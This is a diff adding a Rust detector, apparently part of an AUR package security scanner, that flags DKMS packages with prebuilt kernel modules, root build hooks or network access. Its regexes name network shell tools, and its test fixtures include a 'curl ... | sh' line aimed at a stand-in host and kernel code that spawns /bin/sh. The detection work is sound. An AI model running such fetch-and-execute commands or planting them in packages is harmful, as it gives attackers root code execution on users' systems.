@@ -0,0 +1,233 @@
+use crate::features::Feature;
+use crate::shared::models::PackageContext;
+use crate::shared::scoring::{Signal, SignalCategory};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// A package that builds through DKMS: depends on it, ships a dkms.conf, or writes one.
+static DKMS_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\bdkms\b").unwrap());
+
+/// dkms.conf hooks that run a script as root on every kernel update.
+static HOOK_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?m)^\s*(PRE_BUILD|POST_BUILD|POST_ADD|POST_INSTALL|POST_REMOVE)\s*=\s*["']?([^"'\s]*)"#).unwrap()
+});
+
+/// Network tools in DKMS build files (dkms.conf, Makefile, Kbuild, hook scripts).
+static BUILD_NETWORK_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(curl|wget|aria2c|nc|ncat|socat|telnet)\s|/dev/(tcp|udp)/").unwrap()
+});
+
+/// Kernel code that opens sockets or spawns userspace programs.
+static KERNEL_NETWORK_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(call_usermodehelper\w*|kernel_connect|sock_create_kern|kernel_sendmsg)\s*\(").unwrap()
+});
+
+pub struct DkmsAnalysis;
+
+impl Feature for DkmsAnalysis {
+    fn analyze(&self, ctx: &PackageContext) -> Vec<Signal> {
+        let mut signals = Vec::new();
+        check_prebuilt_modules(&ctx.repo_files, &mut signals);
+
+        let pkgbuild = ctx.pkgbuild_content.as_deref().unwrap_or("");
+        let dkms_confs: Vec<&str> = ctx
+            .repo_files
+            .iter()
+            .filter(|(path, _)| file_name(path) == "dkms.conf")
+            .map(|(_, content)| std::str::from_utf8(content).unwrap_or(""))
+            .collect();
+        if dkms_confs.is_empty() && !DKMS_RE.is_match(pkgbuild) {
+            return signals;
+        }
+
+        // A dkms.conf is often written from the PKGBUILD with a heredoc or sed.
+        let hook_scripts = check_hooks(dkms_confs.iter().copied().chain([pkgbuild]), &mut signals);
+        check_network(&ctx.repo_files, &hook_scripts, &mut signals);
+        signals
+    }
+}
+
+fn file_name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Compiled kernel modules committed to the repo when no C source is: DKMS would
+/// install a blob nobody can review.
+fn check_prebuilt_modules(repo_files: &[(String, Vec<u8>)], signals: &mut Vec<Signal>) {
+    if repo_files.iter().any(|(path, _)| path.ends_with(".c")) {
+        return;
+    }
+    let Some((path, _)) = repo_files.iter().find(|(path, content)| is_kernel_module(path, content)) else {
+        return;
+    };
+    signals.push(Signal {
+        id: "P-DKMS-PREBUILT-KO".to_string(),
+        category: SignalCategory::Pkgbuild,
+        points: 75,
+        description: "Prebuilt kernel module in the package repo with no C sources".to_string(),
+        is_override_gate: false,
+        matched_line: Some(path.clone()),
+        location: None,
+        emitted_by: String::new(),
+    });
+}
+
+/// `.ko` by extension (compressed or not), or an ELF object carrying a `vermagic=` modinfo tag.
+fn is_kernel_module(path: &str, content: &[u8]) -> bool {
+    let name = file_name(path);
+    let by_name = [".ko", ".ko.xz", ".ko.zst", ".ko.gz"].iter().any(|ext| name.ends_with(ext));
+    let by_content = content.starts_with(b"\x7fELF") && content.windows(9).any(|w| w == b"vermagic=");
+    by_name || by_content
+}
+
+/// Report dkms.conf build hooks; returns the script names they run.
+fn check_hooks<'a>(sources: impl Iterator<Item = &'a str>, signals: &mut Vec<Signal>) -> Vec<String> {
+    let mut scripts = Vec::new();
+    let mut first_line = None;
+    for source in sources {
+        for caps in HOOK_RE.captures_iter(source) {
+            first_line.get_or_insert_with(|| caps[0].trim().to_string());
+            let script = file_name(&caps[2]).to_string();
+            if !script.is_empty() && !scripts.contains(&script) {
+                scripts.push(script);
+            }
+        }
+    }
+    if let Some(line) = first_line {
+        signals.push(Signal {
+            id: "P-DKMS-HOOK-SCRIPT".to_string(),
+            category: SignalCategory::Pkgbuild,
+            points: 55,
+            description: "dkms.conf build hook runs a script as root on every kernel update".to_string(),
+            is_override_gate: false,
+            matched_line: Some(line),
+            location: None,
+            emitted_by: String::new(),
+        });
+    }
+    scripts
+}
+
+/// Network access in DKMS build files or hook scripts, or kernel code that opens
+/// sockets or spawns userspace programs.
+fn check_network(repo_files: &[(String, Vec<u8>)], hook_scripts: &[String], signals: &mut Vec<Signal>) {
+    for (path, content) in repo_files {
+        let name = file_name(path);
+        let regex: &Regex = if name.ends_with(".c") || name.ends_with(".h") {
+            &KERNEL_NETWORK_RE
+        } else if matches!(name, "dkms.conf" | "Makefile" | "Kbuild" | "Kconfig")
+            || name.ends_with(".sh")
+            || name.ends_with(".mk")
+            || hook_scripts.iter().any(|s| s == name)
+        {
+            &BUILD_NETWORK_RE
+        } else {
+            continue;
+        };
+        let text = String::from_utf8_lossy(content);
+        if let Some(line) = text.lines().find(|line| regex.is_match(line)) {
+            signals.push(Signal {
+                id: "P-DKMS-NETWORK".to_string(),
+                category: SignalCategory::Pkgbuild,
+                points: 60,
+                description: format!("DKMS module source accesses the network ({path})"),
+                is_override_gate: false,
+                matched_line: Some(line.trim().to_string()),
+                location: None,
+                emitted_by: String::new(),
+            });
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const DKMS_PKGBUILD: &str = "pkgname=foo-dkms\ndepends=('dkms')\nsource=(foo.c Makefile dkms.conf)\n";
+
+    fn analyze(pkgbuild: &str, files: &[(&str, &[u8])]) -> Vec<Signal> {
+        let ctx = PackageContext {
+            name: "foo-dkms".into(),
+            metadata: None,
+            pkgbuild_content: Some(pkgbuild.into()),
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: files.iter().map(|(p, c)| (p.to_string(), c.to_vec())).collect(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        DkmsAnalysis.analyze(&ctx)
+    }
+
+    fn ids(signals: &[Signal]) -> Vec<&str> {
+        signals.iter().map(|s| s.id.as_str()).collect()
+    }
+
+    #[test]
+    fn benign_dkms_package() {
+        let signals = analyze(DKMS_PKGBUILD, &[
+            ("foo.c", b"#include <linux/module.h>\nMODULE_LICENSE(\"GPL\");\n"),
+            ("Makefile", b"obj-m += foo.o\n"),
+            ("dkms.conf", b"PACKAGE_NAME=foo\nBUILT_MODULE_NAME[0]=foo\nAUTOINSTALL=yes\n"),
+        ]);
+        assert!(signals.is_empty(), "got: {:?}", ids(&signals));
+    }
+
+    #[test]
+    fn hook_script_with_network_access() {
+        let signals = analyze(DKMS_PKGBUILD, &[
+            ("foo.c", b"int x;\n"),
+            ("dkms.conf", b"PACKAGE_NAME=foo\nPOST_BUILD=\"update.sh\"\n"),
+            ("update.sh", b"#!/bin/sh\ncurl -s https://x.example/k | sh\n"),
+        ]);
+        let found = ids(&signals);
+        assert!(found.contains(&"P-DKMS-HOOK-SCRIPT"), "{found:?}");
+        assert!(found.contains(&"P-DKMS-NETWORK"), "{found:?}");
+    }
+
+    #[test]
+    fn hook_written_from_pkgbuild_heredoc() {
+        let pkgbuild = format!("{DKMS_PKGBUILD}package() {{\n  cat > dkms.conf <<EOF\nPOST_INSTALL=post.sh\nEOF\n}}\n");
+        assert!(ids(&analyze(&pkgbuild, &[])).contains(&"P-DKMS-HOOK-SCRIPT"));
+    }
+
+    #[test]
+    fn kernel_code_spawning_userspace() {
+        let signals = analyze(DKMS_PKGBUILD, &[(
+            "foo.c",
+            b"static char *argv[] = {\"/bin/sh\", \"-c\", cmd, NULL};\ncall_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);\n",
+        )]);
+        assert!(ids(&signals).contains(&"P-DKMS-NETWORK"));
+    }
+
+    #[test]
+    fn prebuilt_module_without_sources() {
+        let mut blob = b"\x7fELF\x02\x01\x01".to_vec();
+        blob.extend_from_slice(b"\0\0license=GPL\0vermagic=6.9.1-arch1-1 SMP preempt mod_unload\0");
+        let signals = analyze(DKMS_PKGBUILD, &[("Makefile", b"all:\n"), ("lib/helper.bin", &blob)]);
+        let sig = signals.iter().find(|s| s.id == "P-DKMS-PREBUILT-KO").expect("prebuilt module");
+        assert_eq!(sig.matched_line.as_deref(), Some("lib/helper.bin"));
+
+        let signals = analyze(DKMS_PKGBUILD, &[("foo.c", b"int x;\n"), ("foo.ko", b"x")]);
+        assert!(!ids(&signals).contains(&"P-DKMS-PREBUILT-KO"));
+    }
+
+    #[test]
+    fn non_dkms_package_only_checks_prebuilt_modules() {
+        let signals = analyze("pkgname=foo\n", &[("update.sh", b"curl -s https://x.example | sh\n"), ("dkms.sh", b"")]);
+        assert!(signals.is_empty(), "got: {:?}", ids(&signals));
+    }
+}